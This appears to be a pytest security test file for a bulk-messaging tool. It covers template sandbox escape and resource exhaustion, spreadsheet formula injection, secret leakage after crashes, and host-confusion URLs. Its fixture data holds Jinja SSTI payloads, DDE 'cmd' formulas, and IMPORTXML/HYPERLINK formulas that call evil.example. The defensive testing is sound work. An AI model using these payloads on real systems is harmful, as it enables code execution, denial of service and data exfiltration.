"""Lists, templates and settings that mean harm, and secrets that must not get out, with the installed command."""

from __future__ import annotations

import base64
import csv
import os
import sys
from pathlib import Path

import pytest
from world import PASSWORD, USERNAME, Sandbox, World, customers, running_sandbox

from batchsend.lists.formula_guard import from_guarded

SECRETS = (PASSWORD, USERNAME, base64.b64encode(f"{USERNAME}:{PASSWORD}".encode()).decode())

#: What a row's `Trick` makes the template try: reach Python's insides, never end, or grow without end.
TRICKS = """
{%- if trick == "item" %}{{ ""["__cl" ~ "ass__"]["__mro__"] }}
{%- elif trick == "format" %}{{ "{0.__class__.__init__.__globals__}".format(row) }}
{%- elif trick == "range" %}{{ range(1000000000)|list }}
{%- elif trick == "endless" %}{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}
{%- elif trick == "giant" %}{{ "x" * 1000000000 }}
{%- elif trick == "growing" %}{% for a in range(90000) %}{{ "0123456789" * 100 }}{% endfor %}
{%- endif %}Hi {{ first_name }}"""


def test_no_row_gets_out_of_its_template_or_holds_the_others_up(world: World, sandbox: Sandbox) -> None:
    tricks = ["", "item", "format", "range", "endless", "giant", "growing", ""]
    rows = [{**row, "Trick": trick} for row, trick in zip(customers(len(tricks)), tricks, strict=True)]
    world.write(rows, template=TRICKS)
    assert world.send().code == 1
    outcome = world.workbook()
    stopped = {row["Trick"]: row["status"] for row in outcome.values() if row["Trick"]}
    assert stopped == dict.fromkeys([trick for trick in tricks if trick], "invalid")
    assert {row["errorCodes"] for row in outcome.values() if row["Trick"]} <= {
        "TEMPLATE_ERROR",
        "MISSING_VALUE",
    }
    assert [request["body"] for request in sandbox.requests()] == ["Hi Name0", "Hi Name7"]
    assert "object" not in "".join(str(row["message"]) for row in outcome.values())


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
    "'=1+1",
    "＝1+1",
]


def test_what_strangers_typed_into_a_form_is_no_formula(world: World, sandbox: Sandbox) -> None:
    rows = [{**row, "Note": value} for row, value in zip(customers(len(FORMULAS)), FORMULAS, strict=True)]
    rows[0]["=Header()"] = "x"
    world.write([{"=Header()": "", **row} for row in rows], template="{{ note }} says {{ first_name }}")
    assert world.send("--results", "results.csv").code == 0
    # Surrounding white space goes when a list is read.
    typed = [value.strip() for value in FORMULAS]
    with (world.folder / "results.csv").open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.DictReader(file))
    assert "'=Header()" in found[0]
    for column, values in (("Note", typed), ("message", [r["body"] for r in sandbox.requests()])):
        cells = [row[column] for row in found]
        assert all(cell[:1] not in "=+-@\t\r＝" for cell in cells)
        assert [from_guarded(cell) for cell in cells] == values
    assert world.run("results", "1").code == 0
    book = world.workbook()
    assert [row["Note"] for row in book.values()] == typed
    assert [row["message"] for row in book.values()] == [r["body"] for r in sandbox.requests()]
    assert "=Header()" in book[2]


# --- secrets

#: Python runs this when it starts: after the third answer, the command meets a mistake of its own.
DEFECT = """
import sys
if "send" in sys.argv:
    import batchsend.mykaarma.client as client
    answers = 0
    judge = client.ApiClient.post
    async def post(self, *arguments):
        global answers
        answers += 1
        if answers > 3:
            raise RuntimeError("a mistake")
        return await judge(self, *arguments)
    client.ApiClient.post = post
"""


def assert_no_secret(content: bytes, where: object) -> None:
    for secret in SECRETS:
        assert secret.encode() not in content, where
        assert secret.encode("utf-16-le") not in content, where


@pytest.mark.skipif(os.name == "nt", reason="Windows has no file modes")
def test_neither_a_kill_nor_a_traceback_leaves_a_secret_behind(tmp_path: Path) -> None:
    with running_sandbox(tmp_path, "--latency", "0.05") as sandbox:
        world = World(tmp_path / "dealership", sandbox.base_url)
        world.folder.mkdir()
        for name in ("tmp", "defect"):
            (world.folder / name).mkdir()
        world.environment = {"TMPDIR": str(world.folder / "tmp"), "BATCHSEND_DEBUG": "1"}
        world.write(customers(200), campaign="[sending]\nrate = 40\nconcurrency = 5\n")
        theirs = {file for file in world.folder.rglob("*") if file.is_file()}
        process = world.start("send", "campaign.toml", "--yes")
        sandbox.wait_for(5)
        if sys.platform == "linux":
            assert_no_secret(Path(f"/proc/{process.pid}/cmdline").read_bytes(), "the command line")
        process.kill()
        said = "".join(process.communicate())
        (world.folder / "defect" / "sitecustomize.py").write_text(DEFECT, encoding="utf-8")
        theirs.add(world.folder / "defect" / "sitecustomize.py")
        world.environment["PYTHONPATH"] = str(world.folder / "defect")
        broken = world.run_cold("send", "campaign.toml", "--yes")
        assert "Traceback" in broken.err
        assert "a mistake" in broken.err
        assert_no_secret((said + broken.out + broken.err).encode(), "what was shown")
        assert max(sandbox.texts().values()) == 1
    files = {file for file in world.folder.rglob("*") if file.is_file()} - theirs
    ours = {file for file in files if "__pycache__" not in file.parts}
    assert {file.name for file in ours} >= {"ledger.db"}
    for file in ours:
        assert_no_secret(file.read_bytes(), file)
        # The ledger, its log, plans and half a workbook: everything that holds texts and phones.
        assert file.stat().st_mode & 0o077 == 0, file


@pytest.mark.parametrize(
    "url",
    [
        # Names that only begin like this machine, and another way to write an address that programs read differently.
        "http://localhost.evil.example:{port}",
        "http://127.1:{port}",
        # The host is what stands behind the @.
        "http://localhost:{port}@evil.example",
    ],
)
def test_the_password_goes_to_no_other_machine_unprotected(world: World, sandbox: Sandbox, url: str) -> None:
    world.write(customers(1))
    world.base_url = url.format(port=world.base_url.rsplit(":", 1)[1])
    done = world.send()
    assert done.code == 2
    assert "MYKAARMA_BASE_URL" in done.err
    assert_no_secret((done.out + done.err).encode(), "what was shown")
    assert sandbox.requests() == []
    assert not (world.folder / ".batchsend").exists()
